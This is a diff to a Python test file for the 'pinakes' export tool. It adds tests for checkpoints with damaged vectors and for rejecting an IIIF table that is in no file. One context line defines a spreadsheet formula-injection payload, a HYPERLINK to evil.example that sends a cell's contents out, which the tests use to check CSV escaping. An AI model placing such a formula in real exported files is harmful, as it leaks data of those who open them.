@@ -2,16 +2,21 @@
 
 from __future__ import annotations
 
+from collections.abc import Iterator
 from pathlib import Path
 
 import pandas as pd
+import pyarrow.parquet as pq
 import pytest
 
-from pinakes.errors import PinakesError, UsageError
+from pinakes.checkpoints.checkpoint import open_checkpoint
+from pinakes.errors import CheckpointError, PinakesError, UsageError
 from pinakes.operations.export import export
+from pinakes.operations.export_like import export_like
 from pinakes.settings import Settings
 from tests.counting import Counting
 from tests.running import paint, run
+from tests.unit.test_checkpoints import SPACE, flip, ok, only_part
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'
 
@@ -43,6 +48,59 @@ def test_a_csv_for_spreadsheets_holds_no_formula(settings: Settings, tmp_path: P
     assert rows("safe.csv", excel_safe=True) == {("a.png", f"'{FORMULA}", "'@x"), ("'=b.png", "Plain", "'-1")}
     with pytest.raises(UsageError, match="--excel-safe is about CSV"):
         rows("all.parquet", excel_safe=True)
+
+
+@pytest.fixture
+def damaged(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
+    """The root of a checkpoint of 200 vectors, of which the last hundred are in a damaged row group."""
+    monkeypatch.setattr("pinakes.checkpoints.base.CHUNK_ROWS", 100)
+    kept = open_checkpoint(str(tmp_path / "kept"), "art", SPACE)
+    kept.write([ok(number) for number in range(200)])
+    part = only_part(Path(kept.location))
+    flip(part, pq.ParquetFile(part).metadata.row_group(1).column(3))
+    return str(tmp_path / "kept")
+
+
+@pytest.mark.parametrize("name", ["all.parquet", "all.csv", "all.xlsx"])
+def test_an_export_of_nothing_but_damage_leaves_the_last_one_in_its_place(
+    damaged: str, tmp_path: Path, name: str
+) -> None:
+    part = only_part(tmp_path / "kept" / "art" / SPACE.name)
+    flip(part, pq.ParquetFile(part).metadata.row_group(0).column(3))
+    (tmp_path / name).write_text("the last one")
+    with pytest.raises(CheckpointError, match=r"^nothing was exported: all vectors in .* are damaged and lost"):
+        export(tmp_path / name, collection="art", space=SPACE, checkpoint=damaged)
+    assert (tmp_path / name).read_text() == "the last one"
+
+
+def test_no_row_of_zeros_takes_the_place_of_a_damaged_vector(damaged: str, tmp_path: Path) -> None:
+    path = tmp_path / "embeddings.csv"
+    with pytest.raises(CheckpointError, match=r"^100 of 200 vectors in .* are damaged and lost"):
+        export_like("vertex", path, collection="art", space=SPACE, checkpoint=damaged)
+    assert not path.exists()
+    assert export_like("vertex", path, collection="art", space=SPACE, checkpoint=damaged).rows == 100
+    assert not any(line.endswith(",0.0") for line in path.read_text().splitlines())
+
+
+class Document:
+    """A table that is in no file, as a document of IIIF gives it."""
+
+    path, columns, form = "iiif+https://museum.example/all.json", ("file", "title"), "document"
+
+    def rows(self) -> Iterator[tuple[int, list[str]]]:
+        yield 1, ["00001.jpg", "One"]
+
+
+def test_the_tutorials_dataset_is_not_made_of_a_table_that_is_in_no_file(damaged: str, tmp_path: Path) -> None:
+    with pytest.raises(UsageError, match=r"^--like tutorial takes CSV or TSV, and iiif\+https://.* is neither"):
+        export_like(
+            "tutorial",
+            tmp_path / "dataset.csv",
+            collection="art",
+            space=SPACE,
+            checkpoint=damaged,
+            metadata=[Document()],
+        )
 
 
 def test_an_export_that_cannot_be_written_is_one_sentence(settings: Settings, tmp_path: Path) -> None:
